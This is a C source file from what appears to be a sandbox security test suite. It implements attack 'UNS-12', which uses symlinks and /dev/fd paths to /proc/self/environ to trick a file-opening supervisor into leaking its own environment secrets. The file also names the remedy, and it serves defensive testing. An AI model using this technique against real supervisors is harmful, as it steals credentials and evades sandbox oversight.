// SPDX-License-Identifier: MIT
/*
 * Goal:  the supervisor's own environment, which is the worker's.
 * Means: a careful supervisor opens the file itself, so that nothing can change in between. Then it
 *        is the one whom the kernel takes "self" for. The names are judged as ours, where they are
 *        harmless: a link of our own, /dev/fd, which leads to /proc/self.
 */
#include "attacks/proc-read/neighbours.h"
#include "attacks/supervisor-evasion/evaluator.h"

#include <fcntl.h>

static enum claim run(const struct brief *b)
{
	char folder[OWN_FOLDER], link[OWN_FOLDER + 5];
	const char *const names[] = { link, "/dev/fd/../environ",
				      "/dev/fd/../../thread-self/environ",
				      "/proc/thread-self/environ" };

	if (!own_folder(b, folder))
		return failed("mkdir");
	snprintf(link, sizeof(link), "%s/link", folder);
	if (symlink("/proc/self/environ", link))
		return failed("symlink");
	attempting(b);
	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++)
		if (loot_environ(open(names[i], O_RDONLY | O_CLOEXEC)))
			return CLAIM_DONE;
	errno = ENOENT;
	return denied("nobody's environment has it");
}

const struct attack attack = {
	.effect = "the supervisor opens its own files for the student",
	.means = "names that lead to /proc/self, for a supervisor that opens on behalf of others",
	.oracle = "secret:environ",
	.quick = true,
	.id = "UNS-12",
	.attack_id = "T1562.001, CWE-441",
	.remedy = "open in the caller's place, without magic links; a supervisor with no secrets",
	.refs = (const char *const[]){ "openat2(2), RESOLVE_NO_MAGICLINKS", "proc_self(5)", NULL },
	.run = run,
};
